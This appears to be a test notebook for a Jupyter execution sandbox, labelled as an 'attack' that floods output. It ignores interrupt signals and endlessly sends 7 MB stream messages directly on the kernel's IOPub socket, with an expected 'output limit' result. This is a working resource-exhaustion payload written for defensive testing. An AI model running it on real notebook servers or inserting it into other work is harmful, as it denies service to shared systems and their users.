# ---
# jupyter:
#   attack:
#     does: sends large messages faster than anybody reads them
#     statuses: [output limit, not run]
#     limits: {cell_seconds: 2}
# ---

# %%
import signal

from IPython import get_ipython

signal.signal(signal.SIGINT, signal.SIG_IGN)
kernel = get_ipython().kernel
content = {"name": "stdout", "text": "x" * 7_000_000}
message = kernel.session.msg("stream", content, parent=kernel.get_parent())
parts = kernel.session.serialize(message, b"stream.stdout")
while True:
    kernel.iopub_thread.socket.send_multipart(parts, copy=False)

# %%
print("after")
